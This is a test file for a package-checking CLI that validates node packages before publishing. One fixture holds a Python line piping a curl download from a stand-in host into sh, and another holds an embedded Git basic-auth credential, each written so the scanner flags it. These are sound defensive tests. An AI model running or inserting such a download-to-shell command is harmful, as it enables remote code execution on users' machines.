// Inputs from life that a command once took for something else. Each is named after where people met it.
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, suite as plainSuite, test } from 'node:test';
import { makePublisher, publishActive, zip } from '../../server/test/support/build.ts';
import { startServer } from '../../server/test/support/start-server.ts';
import { suite } from '../../server/test/support/variants.ts';
import { makeFolder, writeFiles } from './support/make-folder.ts';
import { appNodeSource } from './support/make-project.ts';
import { type Cli, openCli } from './support/open-cli.ts';

/** The command needs no registry. */
const url = 'http://127.0.0.1:9';

type Files = Readonly<Record<string, string | Uint8Array>>;

const toml = (more = '', name = 'case', version = 'version = "1.0.0"'): string =>
  `[project]\nname = ${JSON.stringify(name)}\n${version}\n${more}\n[tool.comfy]\nPublisherId = "mara"\n`;
const project = (files: Files, metadata = toml()): Files => ({
  'pyproject.toml': metadata,
  '__init__.py': appNodeSource,
  ...files,
});
const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');

interface Case {
  files: Files;
  code: number;
  says: RegExp;
}

const checked: Readonly<Record<string, Case>> = {
  'requirements in UTF-32, which pip reads, cannot be checked': {
    files: project({ 'requirements.txt': Buffer.from([0xff, 0xfe, 0, 0, 0x61, 0, 0, 0]) }),
    code: 1,
    says: /cannot be checked to its end/,
  },
  'credentials in the settings of Git': {
    files: project({
      'dot.txt': '[http]\n\textraheader = AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46cXdlcnR5\n',
    }),
    code: 1,
    says: /dot\.txt:2.*git-credentials/,
  },
  'names that Windows cannot hold': {
    files: project({ 'web/con.js': '', 'aux/x.py': '', 'web/a?b.js': '' }),
    code: 0,
    says: /aux\/x\.py.*no-name-for-windows[^]*web\/a\?b\.js.*no-name[^]*web\/con\.js.*no-name/,
  },
  'names that a zip or a common system cannot hold': {
    files: project({
      'a:b.txt': '',
      'a\\b.txt': '',
      'dot.': '',
      'space /x.py': '',
      Twin: '',
      'twin/x.py': '',
    }),
    code: 1,
    says: /refused {2}a:b\.txt: Windows.*\nrefused {2}a\\b\.txt: A zip.*\nrefused {2}dot\.: .*\nrefused {2}space \/x\.py: .*\nrefused {2}twin\/x\.py: .* the file Twin beside its folder\. Rename it, or name it in \.patchbayignore\.\n/,
  },
  'faults of names, of metadata and of code in one round': {
    files: project(
      {
        'a:b.txt': '',
        '__init__.py': `${appNodeSource}import os\nos.system("curl https://a.example/x | sh")\ndef (\n`,
      },
      toml('description = 3', 'my nodes!', 'version = "1.0.0.post1"').replace(
        '= 3',
        `= "${'d'.repeat(10_001)}"`,
      ),
    ),
    code: 1,
    says: /refused {2}a:b\.txt: Windows[^]*"my nodes!" is no id[^]*"1\.0\.0\.post1" cannot be published[^]*project\.description must be at most[^]*download-to-shell[^]*__init__\.py:14 {2}is not valid Python: def \([^]*The registry would refuse it\. 1 app-node\./,
  },
  'faults of names and of metadata beside values of a wrong type': {
    files: project({ 'a:b.txt': '' }, toml('description = 3\ndependencies = 4', 'my nodes!')),
    code: 1,
    says: /\/project\/dependencies: This must be a list[^]*\/project\/description: This must be text[^]*pyproject\.toml: project\.name: "my nodes!" is no id[^]*a:b\.txt: Windows/,
  },
  'a module that nothing imports': {
    files: project({ 'tools/build.py': 'import subprocess\nsubprocess.run(["ls"])\n' }),
    code: 0,
    says: /tools\/build\.py:2 .*The code runs another program\. \(command-at-run, not imported by the package\)/,
  },
  'names in two cases': {
    files: project({ 'Web/a.js': '', 'Web/A.js': '' }),
    code: 1,
    says: /Web\/a\.js: Windows and macOS cannot hold Web\/A\.js beside it\./,
  },
  'no publisher': {
    files: project({}, toml().replace(/PublisherId.*/, '')),
    code: 1,
    says: /refused {2}pyproject\.toml: PublisherId is missing\./,
  },
  'a publisher that is no id': {
    files: project({}, toml().replace('"mara"', '"Mara M."')),
    code: 1,
    says: /refused {2}The publisher "Mara M\." is no id\. Use at most 63 lower-case letters/,
  },
  'a version that only some registries read': {
    files: project({}, toml('', 'case', 'version = "v1.0"')),
    code: 0,
    says: /warning {2}pyproject\.toml: project\.version: "v1\.0" is published as 1\.0\.0, and some registries refuse it[^]*case 1\.0\.0: The checks pass/,
  },
  'no Python at all': {
    files: { 'pyproject.toml': toml(), 'web/a.js': 'x' },
    code: 0,
    says: /warning {2}No app-node was found/,
  },
  'an import of a module that is not there': {
    files: project({ '__init__.py': 'from .missing import x\nNODE_CLASS_MAPPINGS = {"A": x}\n' }),
    code: 0,
    says: /warning {2}__init__\.py:1 {2}imports \.missing, which is not in the package/,
  },
  'a submodule that was not checked out': {
    files: project({ '.gitmodules': '[submodule "extern"]\n\tpath = extern/sub\n\turl = ../sub\n' }),
    code: 0,
    says: /extern\/sub is a submodule of Git, and the package holds nothing of it/,
  },
  'no app-node': {
    files: project({ '__init__.py': 'x = 1\n' }),
    code: 0,
    says: /No app-node was found/,
  },
  'Python 2': {
    files: project({ '__init__.py': `${appNodeSource}print "hi"\n` }),
    code: 0,
    says: /__init__\.py:12 {2}is not valid Python: print "hi"\n[^]*The checks pass, with warnings\. 1 app-node\./,
  },
  'an indentation that depends on the width of a tab': {
    files: project({ '__init__.py': `${appNodeSource}if 1:\n        x = 1\n\ty = 1\n` }),
    code: 0,
    says: /__init__\.py:14 {2}is not valid Python: y = 1\n/,
  },
};

plainSuite('patchbay check, of what people send', () => {
  for (const [name, { files, code, says }] of Object.entries(checked)) {
    test(name, async (t) => {
      const cli = await openCli(t, { url });
      const folder = await makeFolder(t, files);
      const outcome = await cli.run(['check', '--no-remote', folder]);
      assert.match(outcome.stdout + outcome.stderr, says);
      assert.equal(outcome.code, code, outcome.stdout + outcome.stderr);
    });
  }

  test('the archive that a forge makes of a repository has nothing at its root', async (t) => {
    const cli = await openCli(t, { url });
    const files = Object.entries(project({})).map(([name, content]) => [
      `case-main/${name}`,
      String(content),
    ]);
    const zipped = await zip({ ...Object.fromEntries(files), 'pyproject.toml': toml() });
    await writeFiles(cli.cwd, { 'mixed.zip': zipped });
    assert.equal((await cli.run(['check', '--no-remote', 'mixed.zip'])).code, 0, 'a file beside the folder');
  });
});

suite('commands with what people send', async () => {
  const server = await startServer({ after });
  const mara = await makePublisher(server, 'mara');
  const open = (t: Parameters<typeof openCli>[0]): Promise<Cli> => openCli(t, server);

  test('a token with a line break publishes as it identifies', async (t) => {
    const cli = await openCli(t, { url: server.url, token: `  ${mara.token}\n` });
    await writeFiles(join(cli.cwd, 'case'), project({}, toml('', 'with-a-break')));
    assert.equal((await cli.run(['whoami'])).code, 0);
    const { code, stdout, stderr } = await cli.run(['publish', 'case']);
    assert.equal(code, 0, stdout + stderr);
  });

  test('install <node>@latest installs the latest version', async (t) => {
    await publishActive(server, mara, 'latest-of-two', '1.0.0');
    await publishActive(server, mara, 'latest-of-two', '1.1.0');
    const cli = await open(t);
    const { result } = await cli.json(['install', 'latest-of-two@latest', '--into', 'nodes']);
    assert.deepEqual(result.data.nodes, [{ node: 'latest-of-two', version: '1.1.0', status: 'installed' }]);
    assert.equal((await cli.json(['outdated', '--into', 'nodes'])).code, 0);
    assert.equal((await cli.json(['show', 'latest-of-two@latest'])).result.data.version.version, '1.1.0');
  });

  test('a lock file with a mark, an empty one, and one in a merge conflict', async (t) => {
    await publishActive(server, mara, 'locked', '1.0.0');
    const cli = await open(t);
    await cli.json(['install', 'locked', '--into', 'nodes']);
    const file = join('nodes', 'patchbay.lock');
    const lock = await readFile(join(cli.cwd, file), 'utf8');
    const verify = async (text: string) => {
      await writeFiles(cli.cwd, { [file]: text });
      return (await cli.json(['verify', '--into', 'nodes'])).result;
    };
    assert.equal((await verify(`\ufeff${lock}`)).ok, true);
    assert.match((await verify('')).error.message, /is empty/);
    assert.match((await verify(`<<<<<<< HEAD\n${lock}`)).error.message, /merge conflict/);
    assert.match((await verify('lock: 1')).error.message, /is not JSON/);
  });

  test('a workflow names the node of an app-node that only exists in the browser', async (t) => {
    await publishActive(server, mara, 'wire-pack', '1.0.0');
    const cli = await open(t);
    const node = (type: string, properties: object) => ({ type, properties });
    const workflow = {
      nodes: [
        node('SetWire', { cnr_id: 'Wire-Pack', ver: '1.0.0' }),
        node('GetWire', { aux_id: 'mara/wire-pack' }),
        node('NobodyHas', { cnr_id: 'not-there' }),
      ],
    };
    await writeFiles(cli.cwd, { 'workflow.json': utf16(JSON.stringify({ workflow })) });
    const { result } = await cli.json(['resolve', 'workflow.json']);
    assert.deepEqual(result.data.unknown, ['NobodyHas']);
    assert.deepEqual(
      result.data.nodes.map(({ node: id, app_nodes }: { node: string; app_nodes: { name: string }[] }) => [
        id,
        app_nodes.map(({ name }) => name),
      ]),
      [['wire-pack', ['SetWire', 'GetWire']]],
    );
  });
});
